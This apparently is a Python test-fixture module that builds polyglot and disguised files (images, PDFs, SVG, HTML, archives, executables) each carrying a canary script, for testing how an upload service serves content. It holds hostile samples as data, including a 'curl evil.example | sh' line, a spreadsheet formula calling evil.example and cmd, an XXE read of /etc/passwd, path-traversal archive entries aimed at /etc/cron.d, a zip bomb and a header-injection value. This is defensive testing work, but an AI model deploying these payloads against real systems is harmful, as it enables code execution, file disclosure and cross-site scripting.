"""Files that are two things at once, or one thing under the name of another; each wants to run `SCRIPT`.

``shown`` is the type that the first bytes prove, if a browser may show that in place, and ``""`` for
everything that has to be an attachment.
"""

from __future__ import annotations

import gzip
import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator
from typing import Final

from attrs import frozen

SCRIPT: Final = "fetch('/canary');console.log('CANARY');document.title='CANARY';alert('CANARY')"
HTML: Final = f"<html><body><script>{SCRIPT}</script></body></html>".encode()
SVG: Final = f'<svg xmlns="http://www.w3.org/2000/svg"><script>{SCRIPT}</script></svg>'
EICAR: Final = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


@frozen
class Polyglot:
    """A file: its bytes, and the type it may be shown as, or ``""``."""

    name: str
    data: bytes
    shown: str = ""


# -- what they are made of ----------------------------------------------------------------------


def gif(comment: bytes = b"", tail: bytes = b"") -> bytes:
    """A whole GIF of one pixel."""
    blocks = b"".join(bytes([len(c)]) + c for c in _cut(comment, 255))
    said = b"\x21\xfe" + blocks + b"\0" if comment else b""
    pixel = b"\x2c\0\0\0\0\x01\0\x01\0\0\x02\x02\x44\x01\0"
    return b"GIF89a\x01\0\x01\0\x80\0\0\xff\xff\xff\0\0\0" + said + pixel + b"\x3b" + tail


def _cut(data: bytes, size: int) -> list[bytes]:
    return [data[at : at + size] for at in range(0, len(data), size)]


def chunk(kind: bytes, data: bytes) -> bytes:
    """A chunk of a PNG."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(*extra: bytes, tail: bytes = b"") -> bytes:
    """A whole PNG of one pixel."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
    body = chunk(b"IDAT", zlib.compress(b"\0\xff\xff\xff"))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(extra) + body + chunk(b"IEND", b"") + tail


def jpeg(*segments: bytes, tail: bytes = b"") -> bytes:
    """The start of a JPEG with segments of its own, and its end."""
    jfif = b"\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0"
    return b"\xff\xd8" + jfif + b"".join(segments) + b"\xff\xd9" + tail


def segment(marker: int, data: bytes) -> bytes:
    """A segment of a JPEG."""
    return bytes([0xFF, marker]) + struct.pack(">H", len(data) + 2) + data


def riff(kind: bytes, *chunks: tuple[bytes, bytes]) -> bytes:
    """A RIFF file."""
    body = kind + b"".join(
        k + struct.pack("<I", len(d)) + d + b"\0" * (len(d) % 2) for k, d in chunks
    )
    return b"RIFF" + struct.pack("<I", len(body)) + body


def box(kind: bytes, data: bytes) -> bytes:
    """A box of an ISO media file."""
    return struct.pack(">I", len(data) + 8) + kind + data


def pdf(action: str = "", comment: bytes = b"") -> bytes:
    """A PDF of one empty page, with an action that runs when it is opened."""
    opened = f"/OpenAction << /S /JavaScript /JS ({action}) >>" if action else ""
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {opened} >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] >>",
    ]
    out = b"%PDF-1.7\n" + comment
    places = []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += f"{number} 0 obj {body} endobj\n".encode()
    table = "".join(f"{place:010d} 00000 n \n" for place in places)
    end = f"xref\n0 4\n0000000000 65535 f \n{table}trailer << /Size 4 /Root 1 0 R >>\nstartxref\n{len(out)}\n%%EOF\n"
    return out + end.encode()


def zipped(**files: bytes) -> bytes:
    """A ZIP; ``__`` in a name stands for ``../``."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in files.items():
            archive.writestr(zipfile.ZipInfo(name.replace("__", "../")), data)
    return out.getvalue()


def utf7(text: str) -> bytes:
    """Markup without a bracket, in the encoding that old browsers guessed."""
    return text.replace("<", "+ADw-").replace(">", "+AD4-").replace('"', "+ACI-").encode()


def tarred() -> bytes:
    """A TAR whose member leads out of the folder."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        member = tarfile.TarInfo("../../etc/cron.d/evil")
        member.size = len(HTML)
        archive.addfile(member, io.BytesIO(HTML))
    return out.getvalue()


# -- the families -------------------------------------------------------------------------------


def pictures() -> Iterator[Polyglot]:
    """Whole pictures that carry markup or scripts: shown, and as nothing but pictures."""
    yield Polyglot("gif with html in a comment", gif(HTML), "image/gif")
    yield Polyglot("gif with html behind it", gif(tail=HTML), "image/gif")
    yield Polyglot(
        "gif that is a script", b"GIF89a/*\0\0\x01\0*/=1;" + SCRIPT.encode(), "image/gif"
    )
    yield Polyglot("gif87a that is html", b"GIF87a" + HTML, "image/gif")
    yield Polyglot("png with html behind it", png(tail=HTML), "image/png")
    yield Polyglot("png with html in a text", png(chunk(b"tEXt", b"Comment\0" + HTML)), "image/png")
    yield Polyglot(
        "png with svg in a text",
        png(chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + SVG.encode())),
        "image/png",
    )
    yield Polyglot("png with a zip behind it", png(tail=zipped(__evil=b"x")), "image/png")
    yield Polyglot("jpeg with html in a comment", jpeg(segment(0xFE, HTML)), "image/jpeg")
    yield Polyglot("jpeg with html in exif", jpeg(segment(0xE1, b"Exif\0\0" + HTML)), "image/jpeg")
    yield Polyglot("jpeg with a zip behind it", jpeg(tail=zipped(____evil=HTML)), "image/jpeg")
    yield Polyglot(
        "jpeg that is a script",
        b"\xff\xd8\xff\xe0/*" + b"JFIF" + b"\0" * 9 + b"*/=1;" + SCRIPT.encode(),
        "image/jpeg",
    )
    yield Polyglot(
        "webp with a chunk of html",
        riff(b"WEBP", (b"VP8L", b"\x2f\0\0\0\0\0"), (b"HTML", HTML)),
        "image/webp",
    )
    yield Polyglot("webp that is a script", b"RIFF=1/*WEBPVP8 */;" + SCRIPT.encode(), "image/webp")
    yield Polyglot(
        "avif with html in a free box",
        box(b"ftyp", b"avif\0\0\0\0avifmif1") + box(b"free", HTML),
        "image/avif",
    )
    yield Polyglot(
        "avif sequence with html", box(b"ftyp", b"avis\0\0\0\0") + box(b"mdat", HTML), "image/avif"
    )


def documents() -> Iterator[Polyglot]:
    """PDFs that are html too, that run scripts, or that begin somewhere else."""
    yield Polyglot(
        "pdf with html in a comment", pdf(comment=b"%" + HTML + b"\n"), "application/pdf"
    )
    yield Polyglot(
        "pdf that opens with a script", pdf("app.alert\\('CANARY'\\)"), "application/pdf"
    )
    yield Polyglot("pdf with html behind it", pdf() + HTML, "application/pdf")
    yield Polyglot("pdf with a zip behind it", pdf() + zipped(__evil=b"x"), "application/pdf")
    yield Polyglot("pdf head and html", b"%PDF-" + HTML, "application/pdf")
    yield Polyglot("pdf behind a blank", b" " + pdf())
    yield Polyglot("pdf behind html", HTML + pdf())
    yield Polyglot("pdf behind a kilobyte", b"\n" * 1000 + pdf())
    yield Polyglot("pdf behind a mark", b"\xef\xbb\xbf" + pdf())


def pages() -> Iterator[Polyglot]:
    """HTML with each beginning that browsers take for HTML, and in each encoding they guess."""
    for tag in ("!DOCTYPE HTML", "HTML", "HEAD", "SCRIPT", "IFRAME", "H1", "DIV", "FONT", "TABLE", "A", "STYLE", "TITLE",
                "B", "BODY", "BR", "P", "!--"):  # fmt: skip
        yield Polyglot(
            f"html beginning with {tag}", f"<{tag}>".encode() + b"-->" * (tag == "!--") + HTML
        )
    yield Polyglot("html in small letters", b"<html >" + HTML)
    for name, blank in {
        "blanks": b" \t\r\n\x0c",
        "a nul": b"\0",
        "text": b"hello ",
        "a kilobyte": b" " * 1024,
    }.items():
        yield Polyglot(f"html behind {name}", blank + HTML)
    for encoding in ("utf-8-sig", "utf-16", "utf-16-be", "utf-32"):
        yield Polyglot(f"html in {encoding}", HTML.decode().encode(encoding))
    yield Polyglot("html in utf-16 with a mark", b"\xfe\xff" + HTML.decode().encode("utf-16-be"))
    yield Polyglot("html in utf-7 with a mark", b"+/v8-" + utf7(HTML.decode()))
    yield Polyglot("html in utf-7", utf7(HTML.decode()))
    yield Polyglot("html in iso-2022-jp", b"\x1b$B" + HTML)
    yield Polyglot("html application", b"<hta:application>" + HTML)
    yield Polyglot("frameset", b'<frameset onload="' + SCRIPT.encode() + b'">')


def drawings() -> Iterator[Polyglot]:
    """SVG and XML in each dress."""
    doctype = '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x "y"><!ENTITY e SYSTEM "file:///etc/passwd">]>'
    yield Polyglot("svg", SVG.encode())
    yield Polyglot("svg with entities", (doctype + SVG).encode())
    yield Polyglot(
        "svg with a handler",
        SVG.replace("<script>", '<g onload="').replace("</script>", '"/>').encode(),
    )
    yield Polyglot(
        "svg with a foreign object", SVG.replace("<script>", "<foreignObject><script>").encode()
    )
    for encoding in ("utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32"):
        yield Polyglot(f"svg in {encoding}", SVG.encode(encoding))
    yield Polyglot("svg in utf-7", b'<?xml version="1.0" encoding="utf-7"?>' + utf7(SVG))
    yield Polyglot("svg zipped", gzip.compress(SVG.encode(), mtime=0))
    yield Polyglot("svg behind a comment", b"<!-- GIF89a -->" + SVG.encode())
    yield Polyglot(
        "xhtml",
        f'<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml"><script>{SCRIPT}</script></x>'.encode(),
    )
    yield Polyglot(
        "xml with a stylesheet",
        b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#x"?>' + SVG.encode(),
    )
    yield Polyglot("xml that reads files", (doctype + "<x>&e;</x>").encode())
    yield Polyglot(
        "mathml",
        b'<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:alert(1)">x</math>',
    )
    yield Polyglot(
        "feed", b"<rss><channel><title><![CDATA[" + HTML + b"]]></title></channel></rss>"
    )


def scripts() -> Iterator[Polyglot]:
    """What runs when something loads it."""
    yield Polyglot("javascript", SCRIPT.encode())
    yield Polyglot("javascript behind a comment", b"/* %PDF-1.7 */" + SCRIPT.encode())
    yield Polyglot("module", b"export default 1;" + SCRIPT.encode())
    yield Polyglot("json with html", b'{"a":"' + HTML + b'"}')
    yield Polyglot("css", b"body{background:url(/canary)}")
    yield Polyglot("web assembly", b"\0asm\x01\0\0\0")
    yield Polyglot("appcache", b"CACHE MANIFEST\n/ canary\n")
    yield Polyglot(
        "crossdomain",
        b'<?xml version="1.0"?><cross-domain-policy><allow-access-from domain="*"/></cross-domain-policy>',
    )
    yield Polyglot("event stream", b"data: x\n\n")
    yield Polyglot("web bundle", b"\x86\x48\xf0\x9f\x8c\x90\xf0\x9f\x93\xa6" + HTML)


def mails() -> Iterator[Polyglot]:
    """Messages with pages inside."""
    head = b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n"
    part = (
        b"--b\r\nContent-Type: text/html\r\nContent-Location: x\r\n\r\n" + HTML + b"\r\n--b--\r\n"
    )
    yield Polyglot("mhtml", head + part)
    yield Polyglot("mhtml behind text", b"From: x\r\n" + head + part)
    yield Polyglot("mail", b"From: a@b\r\nContent-Type: text/html\r\n\r\n" + HTML)
    yield Polyglot(
        "replacing parts", b"--b\r\nContent-Type: text/html\r\n\r\n" + HTML + b"\r\n--b\r\n"
    )


def archives() -> Iterator[Polyglot]:
    """Archives with names that lead out, and those that are programs."""
    yield Polyglot("zip that leads out", zipped(______etc_cron=HTML))
    yield Polyglot("zip with html before it", HTML + zipped(a=b"x"))
    yield Polyglot("zip with html behind it", zipped(a=b"x") + HTML)
    yield Polyglot(
        "jar", zipped(**{"META-INF/MANIFEST.MF": b"Main-Class: x", "x.class": b"\xca\xfe\xba\xbe"})
    )
    yield Polyglot("zip that is a bomb", zipped(a=gzip.compress(bytes(10_000), mtime=0)))
    yield Polyglot("tar that leads out", tarred())
    yield Polyglot("gzip of html", gzip.compress(HTML, mtime=0))
    yield Polyglot("7z", b"7z\xbc\xaf\x27\x1c\0\x04")


def programs() -> Iterator[Polyglot]:
    """What runs on the machine of who opens it."""
    yield Polyglot("eicar", EICAR)
    yield Polyglot("windows program", b"MZ\x90\0" + b"\0" * 60 + HTML)
    yield Polyglot("linux program", b"\x7fELF\x02\x01\x01" + HTML)
    yield Polyglot("shell script", b"#!/bin/sh\ncurl evil.example | sh\n")
    yield Polyglot("flash", b"FWS\x09" + struct.pack("<I", 99) + HTML)
    yield Polyglot("flash, compressed", b"CWS\x09" + struct.pack("<I", 99) + zlib.compress(HTML))
    yield Polyglot("shortcut", b"[InternetShortcut]\r\nURL=javascript:alert(1)\r\n")
    yield Polyglot("windows link", b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F")
    yield Polyglot("rich text", b"{\\rtf1{\\object\\objdata 0105}}")
    yield Polyglot("postscript", b"%!PS-Adobe-3.0\n(%stdout) (w) file\n")
    yield Polyglot("browser extension", b"Cr24\x03\0\0\0" + HTML)
    yield Polyglot(
        "table with formulas", b"=HYPERLINK(\"https://evil.example\"),+cmd|' /C calc'!A0\n"
    )


def almost() -> Iterator[Polyglot]:
    """What only looks like a picture: other pictures, wrong heads, heads in the wrong place."""
    yield Polyglot("bmp that is a script", b"BM=1;/*" + b"\0" * 20 + b"*/" + SCRIPT.encode())
    yield Polyglot("icon with html", b"\0\0\x01\0\x01\0" + HTML)
    yield Polyglot("gif in small letters", b"gif89a" + HTML)
    yield Polyglot("gif of no version", b"GIF88a" + HTML)
    yield Polyglot("png with its line break changed", png().replace(b"\r\n", b"\n", 1) + HTML)
    yield Polyglot("png behind html", HTML + png())
    yield Polyglot("jpeg behind a blank", b"\n" + jpeg() + HTML)
    yield Polyglot("jpeg of two bytes", b"\xff\xd8" + HTML)
    yield Polyglot("riff that is sound", riff(b"WAVE", (b"HTML", HTML)))
    yield Polyglot("riff turned round", b"RIFX\0\0\0\0WEBP" + HTML)
    yield Polyglot("webp word later", b"RIFF\0\0\0\0\0WEBP" + HTML)
    yield Polyglot("avif by another brand", box(b"ftyp", b"mif1\0\0\0\0avif") + HTML)
    yield Polyglot("heic", box(b"ftyp", b"heic\0\0\0\0") + HTML)
    yield Polyglot("video with html", box(b"ftyp", b"isom\0\0\0\0") + box(b"mdat", HTML))
    yield Polyglot("avif of a size that lies", b"\xff\xff\xff\xffftypavif" + HTML)
    yield Polyglot("tiff", b"II*\0\x08\0\0\0" + HTML)
    yield Polyglot("sound with html", b"ID3\x03\0\0\0\0\0\x7f" + HTML)
    yield Polyglot("font", b"wOF2\0\x01\0\0" + HTML)
    yield Polyglot("nothing", b"")


FAMILIES: Final = {
    family.__name__: tuple(family())
    for family in (pictures, documents, pages, drawings, scripts, mails, archives, programs, almost)
}
POLYGLOTS: Final = tuple(file for family in FAMILIES.values() for file in family)

DECLARED: Final = {
    "pdf": "application/pdf", "png": "image/png", "jpg": "image/jpeg", "gif": "image/gif", "webp": "image/webp",
    "avif": "image/avif", "svg": "image/svg+xml", "html": "text/html; charset=utf-7", "xhtml": "application/xhtml+xml",
    "xml": "text/xml", "js": "text/javascript", "css": "text/css", "json": "application/json", "txt": "text/plain",
    "swf": "application/x-shockwave-flash", "mht": "multipart/related", "zip": "application/zip", "": "",
    "x": "*/*", "y": "text/html\r\nX-Evil: 1",
}  # fmt: skip
"""Endings and the types that somebody who uploads a file may call it by; none of them is believed."""
